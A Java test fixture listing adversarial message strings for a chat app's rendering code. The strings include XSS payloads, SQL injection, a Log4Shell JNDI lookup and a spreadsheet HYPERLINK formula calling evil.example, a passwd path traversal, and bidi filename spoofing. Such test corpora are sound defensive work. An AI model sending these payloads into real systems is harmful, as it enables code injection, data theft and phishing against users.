package org.parley.screens;

import java.util.List;

/** What people could write who mean no good, or whose keyboard does. */
final class Corpus {
  static final List<String> TEXTS =
      List.of(
          "<!channel> <!here> <!everyone> @channel @here",
          "<@U0BEN> <#C0HARBOUR> <!subteam^S1>",
          "<https://evil.example|your bank>",
          "<mailto:x@evil.example|x>",
          "<!date^0^{date}^https://evil.example|today>",
          "[x](https://evil.example) ![x](https://evil.example/x.png)",
          "[x](javascript:alert(1)) [x](data:text/html,x)",
          "<at>Dora</at> <at id=\"0\">Dora</at>",
          "*b* _i_ ~s~ `c` ```d```",
          "**b** __i__ ~~s~~ ***x***",
          "> quote\n>>> more\n# head\n- list\n1. item\n| a | b |\n|---|---|",
          "\u202egnp.exe\u202c \u2066x\u2069 \u061c",
          "a\u200bb\ufeffc\u2060d\u00ade",
          "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\udff3\ufe0f\u200d\ud83c\udf08 :smile: :skull:",
          "\ud83d",
          "\udc00x\ud800",
          "a\u0000b\u0007\u001b[31m\u009b",
          "Z\u0338\u0311\u0300a\u0489\u0301l\u0336g\u0335o",
          "{0} {name} { '{' ''",
          "''{'x'}'' {n, plural, one{x} other{y}}",
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "&lt;!channel&gt; &amp;amp; &#60;!here&#62;",
          "=HYPERLINK(\"http://evil.example\",\"x\")",
          "+1+1 @SUM(1) -2",
          "'; drop table person; -- \" or 1=1 \\",
          "${jndi:ldap://evil.example/x} #{7*7} %s%n%x $1 \\1",
          "../../etc/passwd\\u003c!channel\\u003e",
          "\r\n\r\n\t \u00a0 x",
          "all off away set yes no weekly evaluate\u00adposition",
          "\ud835\udd4f\ud835\udd54 \u0130\u0131\u017f\ufb01 \u5f00\u59cb \u0627\u0628",
          "x".repeat(10_000),
          "\ud83e\udd1d".repeat(4_000),
          "<".repeat(4_000),
          "&".repeat(4_000),
          "*".repeat(4_000),
          "\n".repeat(500) + "x",
          "\u0301".repeat(2_000),
          "   ");

  private Corpus() {}
}
